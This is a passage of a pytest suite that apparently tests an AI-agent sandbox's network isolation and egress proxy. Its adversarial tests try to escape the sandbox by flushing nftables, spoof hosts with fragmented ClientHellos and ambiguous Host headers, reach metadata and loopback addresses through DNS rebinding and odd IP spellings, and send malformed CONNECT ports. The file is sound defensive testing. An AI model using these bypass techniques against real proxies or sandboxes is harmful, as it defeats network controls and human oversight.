             "for t in range(30):\n for s in ss:\n  try: s.sendall(b'X')\n  except OSError: pass\n"
             " time.sleep(1)\n")
    assert box.ak("exec", "-d", box.name, "--", PY, "-c", loris).rc == 0
    time.sleep(3)
    t0 = time.time()
    res = box.sh(f"curl -sS --max-time 10 http://{ALLOWED}/under-loris")
    assert '"/under-loris"' in res.stdout and time.time() - t0 < 10, res


def sandbox_netns_pid(ak, name):
    """The host pid of one of the sandbox's agents (in its network namespace)."""
    from conftest import agent_pids
    uuid = ak.state(name)["uuid"]
    for pid in agent_pids():
        try:
            if uuid in open(f"/proc/{pid}/cmdline").read():
                return pid
        except OSError:
            pass
    raise AssertionError(f"no agent of {name}")


def test_no_way_out_without_the_rules(wak, world):
    """The capture's rules gone: a permissive sandbox tries to flush nftables and delete the
    AnyIP route itself (it may lack CAP_NET_ADMIN: then the host side removes them, as a
    bug or a kernel without nf_tables would), adds an interface of its own and a default
    route, then connects, sends UDP and pings the world: there is no interface out, so
    nothing arrives (safety never rests on the rules)."""
    b = make_box(wak, world, "perm", "--allow-host", ALLOWED, "--profile", "permissive")
    m = world.mark()
    res = b.sh("/usr/sbin/nft flush ruleset; ip route del local default dev lo table local; "
               "ip link add akx type dummy; ip addr add 198.18.0.77/24 dev akx; "
               "ip link set akx up; ip route add default dev akx; echo ---; "
               "/usr/sbin/nft list ruleset; ip -o link; ip route show table all", timeout=60)
    pid = sandbox_netns_pid(wak, "perm")
    for cmd in (["nft", "flush", "ruleset"],
                ["ip", "route", "del", "local", "default", "dev", "lo", "table", "local"]):
        subprocess.run(["nsenter", f"--target={pid}", "--net", "--"] + cmd, capture_output=True)
    left = subprocess.run(["nsenter", f"--target={pid}", "--net", "--", "nft", "list",
                           "ruleset"], capture_output=True, text=True).stdout
    assert "agentkernel" not in left, left
    for args in ((TCP_SEND, DENIED_IP, "80", http(DENIED)), (UDP_SEND, DENIED_IP, "9999"),
                 (PING, DENIED_IP), (TCP_SEND, ALLOWED_IP, "80", http(ALLOWED)),
                 (TCP_SEND, OTHER_IP, "7777", "x"), (UDP_SEND, DNS_IP, "53")):
        r = b.py(*args)
        assert WORLD not in r.stdout and not r.stdout.startswith("reply") \
            and "tcp-7777" not in r.stdout, (args[1:], r, res)
    assert not leaks(world, m), res


def test_the_proxy_control_is_out_of_reach(box):
    """The sandbox cannot widen its own policy: the proxy's control socket (and its
    directory) does not exist in the sandbox's view, and a connect() to its path fails;
    denied.test stays denied after trying."""
    ctl = proxy_dir(box.ak) / "control"
    code = ("import socket,sys\ns=socket.socket(socket.AF_UNIX,socket.SOCK_SEQPACKET)\ntry:\n"
            " s.connect(sys.argv[1]); s.send(b'{\"op\":\"stats\"}'); print('connected',s.recv(999))\n"
            "except OSError as e:\n print('error',e.__class__.__name__)")
    res, out, leaked = box.attack(code, str(ctl))
    assert "connected" not in out, out
    res, out, leaked = box.send(PROXY, PROXY_PORT, http(DENIED, f"http://{DENIED}/"))
    assert refused(out) and not leaked, (out, leaked)


# ---------------------------------------------------------------- sharper variants

def test_absolute_uri_allowed_with_a_denied_host_header(box):
    """Explicit proxy: `GET http://allowed.test/` carrying `Host: denied.test` (fronting at the
    HTTP layer: a CDN behind allowed.test would route by the header): the request is refused
    or its Host made to match; no server ever sees `Host: denied.test`."""
    payload = f"GET http://{ALLOWED}/fr HTTP/1.1\\r\\nHost: {DENIED}\\r\\nConnection: close\\r\\n\\r\\n"
    res, out, leaked = box.send(PROXY, PROXY_PORT, payload, ok=lambda e: to_allowed(e) or (
        e["srv"] == "http" and e.get("dst") == ALLOWED_IP and e.get("host") == ALLOWED))
    assert not leaked, (out, leaked)
    assert not [e for e in box.world.events(box.m, srv="http") if e.get("host") == DENIED]


@pytest.mark.parametrize("port", [80, 443])
def test_plain_http_inside_a_connect_tunnel(box, port):
    """CONNECT allowed.test:PORT (allowed), then not TLS but a plain HTTP request naming
    denied.test inside the tunnel: no server sees a request for denied.test."""
    payload = (f"CONNECT {ALLOWED}:{port} HTTP/1.1\\r\\nHost: {ALLOWED}:{port}\\r\\n\\r\\n"
               + http(DENIED, "/in-tunnel"))
    res, out, leaked = box.send(PROXY, PROXY_PORT, payload, ok=lambda e: to_allowed(e) or (
        e["srv"] == "tls" and e.get("dst") == ALLOWED_IP and e.get("sni") is None))
    assert not leaked, (out, leaked)
    bad = [e for e in box.world.events(box.m, srv="http") if e.get("host") == DENIED
           or "/in-tunnel" in (e.get("target") or "")]
    assert not bad, bad


FRAGMENTED_HELLO = r"""
import socket, ssl, sys, time
host, sni = sys.argv[1], sys.argv[2]
ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
inc, outg = ssl.MemoryBIO(), ssl.MemoryBIO()
obj = ctx.wrap_bio(inc, outg, server_hostname=sni)
try:
    obj.do_handshake()
except ssl.SSLWantReadError:
    pass
hello = outg.read()
try:
    s = socket.create_connection((host, 443), 4)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for i in range(0, len(hello), 7):  # seven bytes a segment, a pause between
        s.sendall(hello[i:i + 7])
        time.sleep(0.005)
    s.settimeout(3)
    print("got", len(s.recv(4096)))
except OSError as e:
    print("error", e.__class__.__name__)
"""


def test_fragmented_client_hello(box):
    """A ClientHello naming denied.test cut into 7-byte segments, sent to allowed.test's
    address (a sniffer that judges the first segment alone would see no SNI): no server sees
    a handshake for denied.test."""
    res, out, leaked = box.attack(FRAGMENTED_HELLO, ALLOWED_IP, DENIED, ok=lambda e: to_allowed(e)
                                  or (e["srv"] == "tls" and e.get("sni") is None
                                      and e.get("dst") == ALLOWED_IP))
    assert not leaked, (out, leaked)
    assert not [e for e in box.world.events(box.m, srv="tls") if e.get("sni") == DENIED]


@pytest.mark.parametrize("host", ["3323068427", "0xc612000b", "198.18.11", "0306.022.0.013",
                                  "198.018.000.011", "[::ffff:198.18.0.11]"])
def test_odd_spellings_of_a_denied_address(box, host):
    """denied.test's address as one integer, in hex, in inet_aton's short and octal forms,
    with leading zeros, v4-mapped in brackets (as an absolute URI and in CONNECT): nothing
    reaches 198.18.0.11."""
    res, out, leaked = box.send(PROXY, PROXY_PORT, http(host, f"http://{host}/"))
    assert refused(out) and not leaked, (out, leaked)
    res, out, leaked = box.attack(TLS_SNI, DENIED_IP, "443", DENIED, f"connect={host}:443")
    assert " 200" not in out.split("\n")[0] and not leaked, (out, leaked)


def test_dns_query_with_two_questions(box):
    """One DNS message asking for allowed.test and denied.test at once (QDCOUNT 2): the
    denied name never reaches the world's resolver."""
    code = r"""
import socket, struct
def name(n):
    return b"".join(bytes([len(l)]) + l.encode() for l in n.split(".")) + b"\0"
q = struct.pack(">HHHHHH", 7, 0x0100, 2, 0, 0, 0)
q += name("allowed.test") + struct.pack(">HH", 1, 1) + name("denied.test") + struct.pack(">HH", 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(3)
s.sendto(q, ("127.0.0.1", 53))
try:
    a = s.recv(4096)
    print("rcode", a[3] & 15, "answers", struct.unpack(">H", a[6:8])[0], "denied" in a.decode("latin-1"))
except OSError as e:
    print("error", e.__class__.__name__)
"""
    res, out, leaked = box.attack(code)
    assert not leaked, (out, leaked)
    assert "198.18.0.11" not in out


@pytest.mark.parametrize("name", ["DeNiEd.TeSt", "denied.test.", "x.DENIED.test"])
def test_dns_case_and_dot_tricks(box, name):
    """DNS 0x20-style mixed case, a trailing dot, a subdomain in capitals: denied names stay
    denied in the resolver too; no query reaches the world."""
    res, out, leaked = box.attack(DNS_QUERY, "127.0.0.1", "53", name, "1", "udp")
    assert "answers 1" not in out and not leaked, (out, leaked)


def test_h2c_prior_knowledge_to_a_denied_address(box):
    """An HTTP/2 cleartext preface (no Host header to read) straight to denied.test's address:
    nothing arrives."""
    res, out, leaked = box.send(DENIED_IP, 80, "PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n"
                                "\\x00\\x00\\x00\\x04\\x00\\x00\\x00\\x00\\x00")
    assert WORLD not in out and not leaked, (out, leaked)


@pytest.fixture
def wide(wak, world):
    """A sandbox whose policy allows every name (`*` on 80 and 443) and, explicitly, a test
    CIDR that is not one of the refused ranges."""
    b = make_box(wak, world, "wide")
    if not TRY_FULL:
        only_policy(wak, "wide", [{"action": "allow", "host": "*"}], wak.data_dir.parent)
    return b


@pytest.mark.parametrize("name", ["loop.test", "private.test", "hostaddr.test", "metadata.test"])
def test_a_star_rule_never_opens_refused_ranges_by_name(wide, name):
    """DNS rebinding's effect under an allow-everything rule: names whose address is
    loopback, private, the host's own or link-local (metadata) stay refused, through the
    explicit proxy and through the resolver plus a direct connection."""
    port = HOST_PORTS[0] if name in ("loop.test", "hostaddr.test") else 80

    def lookup(e):  # `*` allows the name: the proxy may ask for its address
        return e["srv"] == "dns" and e.get("qname") == name and e.get("qtype") in (1, 28)
    res, out, leaked = wide.send(PROXY, PROXY_PORT, http(name, f"http://{name}:{port}/"),
                                 ok=lookup)
    assert refused(out) and "host-" not in out and not leaked, (out, leaked)
    code = ("import socket,sys\ntry:\n a=socket.gethostbyname(sys.argv[1])\n"
            " s=socket.create_connection((a,int(sys.argv[2])),3)\n"
            " s.sendall(b'GET / HTTP/1.1\\r\\nHost: '+sys.argv[1].encode()+b'\\r\\n\\r\\n')\n"
            " print('connected',s.recv(200))\nexcept OSError as e:\n print('error',e)\n")
    res, out, leaked = wide.attack(code, name, str(port), ok=lookup)
    assert WORLD not in out and "host-" not in out and not leaked, (out, leaked)


@pytest.mark.parametrize("target", ["169.254.169.254:80", f"127.0.0.1:{HOST_PORTS[0]}",
                                    f"{HOST_IP}:{HOST_PORTS[0]}", "10.1.2.3:80", "0.0.0.0:80",
                                    "100.64.0.1:80"])
def test_a_star_rule_never_opens_refused_ranges_by_address(wide, target):
    """Under an allow-everything rule, CONNECT and absolute URIs to metadata, the host's
    loopback and own address, private, 0/8 and CGNAT addresses stay refused."""
    host, port = target.rsplit(":", 1)
    res, out, leaked = wide.attack(TLS_SNI, host, port, ALLOWED, f"connect={target}")
    assert " 200" not in out.split("\n")[0] and not leaked, (out, leaked)
    res, out, leaked = wide.send(PROXY, PROXY_PORT, http(target, f"http://{target}/"))
    assert refused(out) and "host-" not in out and not leaked, (out, leaked)


@pytest.mark.parametrize("hosts", [(ALLOWED, DENIED), (DENIED, ALLOWED),
                                   (f"{ALLOWED}@{DENIED}",), (f"{DENIED}, {ALLOWED}",),
                                   (f"{ALLOWED}\\t{DENIED}",), (f"{ALLOWED}:80:{DENIED}",)])
def test_ambiguous_host_headers(box, hosts):
    """Host headers a proxy and a server may read differently (two of them in either order,
    userinfo, a list, junk after the name), transparently to allowed.test's address and as an
    explicit request: no request that names denied.test in any Host line reaches a server."""
    hdrs = "".join(f"Host: {h}\\r\\n" for h in hosts)
    payload = f"GET /amb HTTP/1.1\\r\\n{hdrs}Connection: close\\r\\n\\r\\n"
    for where, port, p in ((ALLOWED_IP, 80, payload),
                           (PROXY, PROXY_PORT, payload.replace("GET /amb", f"GET http://{ALLOWED}/amb"))):
        res, out, leaked = box.send(where, port, p, ok=to_allowed)
        assert not leaked, (where, out, leaked)
        bad = [e for e in box.world.events(box.m, srv="http")
               if any(DENIED in h for h in e.get("headers", []))]
        assert not bad, (where, bad)


def test_method_rules_hold_in_tunnels_too(wak, world):
    """A rule allowing only GET to allowed.test: a POST as an explicit request, transparently,
    and inside a CONNECT tunnel to port 80 (a tunnel has no method, so the rule must not match
    it) never reaches the server; GET does."""
    b = make_box(wak, world, "meth", "--allow-host", ALLOWED)
    if not TRY_FULL:
        only_policy(wak, "meth", [{"action": "allow", "host": ALLOWED, "methods": ["GET"]}],
                    wak.data_dir.parent)
    post = f"POST /posted HTTP/1.1\\r\\nHost: {ALLOWED}\\r\\nContent-Length: 3\\r\\nConnection: close\\r\\n\\r\\nabc"
    for where, port, p in ((PROXY, PROXY_PORT, post.replace("POST /posted", f"POST http://{ALLOWED}/posted")),
                           (ALLOWED_IP, 80, post),
                           (PROXY, PROXY_PORT, f"CONNECT {ALLOWED}:80 HTTP/1.1\\r\\nHost: {ALLOWED}:80\\r\\n\\r\\n" + post)):
        res, out, leaked = b.send(where, port, p, ok=lambda e: e["srv"] == "wire")
        assert not leaked and WORLD not in out, (where, out, leaked)
    res, out, leaked = b.send(ALLOWED_IP, 80, http(ALLOWED, "/got"), ok=to_allowed)
    assert WORLD in out and not leaked, (out, leaked)


def test_port_rules_hold_for_tls(wak, world):
    """A rule allowing allowed.test on port 80 only: TLS to it on 443 (transparent and by
    CONNECT) is refused; no handshake arrives."""
    b = make_box(wak, world, "port", "--allow-host", ALLOWED)
    if not TRY_FULL:
        only_policy(wak, "port", [{"action": "allow", "host": ALLOWED, "ports": [80]}],
                    wak.data_dir.parent)
    for via in ("direct", "connect"):
        res, out, leaked = b.attack(TLS_SNI, ALLOWED if via == "connect" else ALLOWED_IP, "443",
                                    ALLOWED, via)
        assert refused(out) and "response" not in out and not leaked, (via, out, leaked)


def test_another_sandboxs_lookups_open_nothing(wak, world, box):
    """A second sandbox on the same proxy, allowed denied.test, resolves it (the proxy now
    knows 198.18.0.11 as denied.test for that sandbox); the first sandbox then connects to
    198.18.0.11 with a bare TCP payload: its own table and policy decide: refused."""
    other = make_box(wak, world, "lender", "--allow-host", DENIED)
    r = other.sh(f"getent hosts {DENIED}; curl -s --max-time 5 http://{DENIED}/lent")
    if not TRY_FULL:
        assert DENIED_IP in r.stdout and WORLD in r.stdout, r
    res, out, leaked = box.send(DENIED_IP, 80, "raw bytes\\r\\n\\r\\n")
    assert refused(out) and not leaked, (out, leaked)
    res, out, leaked = box.send(DENIED_IP, 443, "\\x16\\x03\\x01\\x00\\x05hello")
    assert refused(out) and not leaked, (out, leaked)


def test_absolute_uri_on_a_transparent_connection(box):
    """Transparent HTTP to allowed.test's address, `Host: allowed.test`, but an absolute-form
    target `http://denied.test/` (which a server or a CDN behind it must prefer to Host): no
    request naming denied.test reaches a server."""
    payload = (f"GET http://{DENIED}/abs HTTP/1.1\\r\\nHost: {ALLOWED}\\r\\n"
               "Connection: close\\r\\n\\r\\n")
    res, out, leaked = box.send(ALLOWED_IP, 80, payload, ok=to_allowed)
    assert not leaked, (out, leaked)
    bad = [e for e in box.world.events(box.m, srv="http") if DENIED in (e.get("target") or "")]
    assert not bad, bad


def long_name(tail):
    """A name of 252 bytes ending in ".allowed.test", then `tail`: a proxy that cuts
    names to its buffer would judge the cut."""
    head = "." + ALLOWED
    pad = 253 - len(head)
    labels = []
    while pad > 0:
        n = min(63, pad - 1) if pad > 1 else 1
        labels.append("a" * max(n, 1))
        pad -= n + 1
    return ".".join(labels)[:253 - len(head)] + head + tail


def test_overlong_names(wak, world):
    """With `*.allowed.test` allowed: a Host and a CONNECT target of 264 bytes whose first 252
    end in '.allowed.test' and whose real suffix is '.denied.test': refused (a name that long is
    invalid), nothing naming denied.test arrives."""
    g = make_box(wak, world, "long", "--allow-host", "*." + ALLOWED)
    name = long_name("." + DENIED)
    res, out, leaked = g.send(PROXY, PROXY_PORT, http(name, f"http://{name}/"))
    assert not leaked and WORLD not in out, (out[:300], leaked)
    res, out, leaked = g.send(ALLOWED_IP, 80, http(name), ok=to_allowed)
    assert not leaked, (out[:300], leaked)
    res, out, leaked = g.attack(TLS_SNI, name, "443", ALLOWED, "connect")
    assert " 200" not in out.split("\n")[0] and not leaked, (out[:300], leaked)
    bad = [e for e in world.events(g.m) if DENIED in json.dumps(e)]
    assert not bad, bad


def test_keepalive_get_then_connect_to_a_denied_host(box):
    """On one kept-alive connection to the proxy: an allowed GET, then `CONNECT
    denied.test:443`: the CONNECT is refused; nothing reaches denied.test."""
    payload = (f"GET http://{ALLOWED}/first HTTP/1.1\\r\\nHost: {ALLOWED}\\r\\n\\r\\n"
               f"CONNECT {DENIED}:443 HTTP/1.1\\r\\nHost: {DENIED}:443\\r\\n\\r\\n"
               "\\x16\\x03\\x01\\x00\\x05hello")
    res, out, leaked = box.send(PROXY, PROXY_PORT, payload, ok=to_allowed)
    assert not leaked and "Connection established" not in out, (out, leaked)


@pytest.mark.parametrize("port", ["65979", "65616", "0x1bb", "-1", "443abc", "+443",
                                  "4430000000000000000443", "4\u0664\u0663"])
def test_connect_with_malformed_ports(box, port):
    """CONNECT allowed.test:PORT with ports that wrap (65979 = 443 + 65536), in hex, negative,
    with junk, a sign, non-ASCII digits (leading zeros are valid: RFC 3986): refused
    as malformed (a parser that wraps or stops
    early judges one port and may connect to another); nothing arrives but at allowed.test's
    80 or 443."""
    res, out, leaked = box.attack(TLS_SNI, ALLOWED, "443", ALLOWED, f"connect={ALLOWED}:{port}",
                                  ok=to_allowed)
    assert not leaked, (out, leaked)
    assert " 200" not in out.split("\n")[0], out
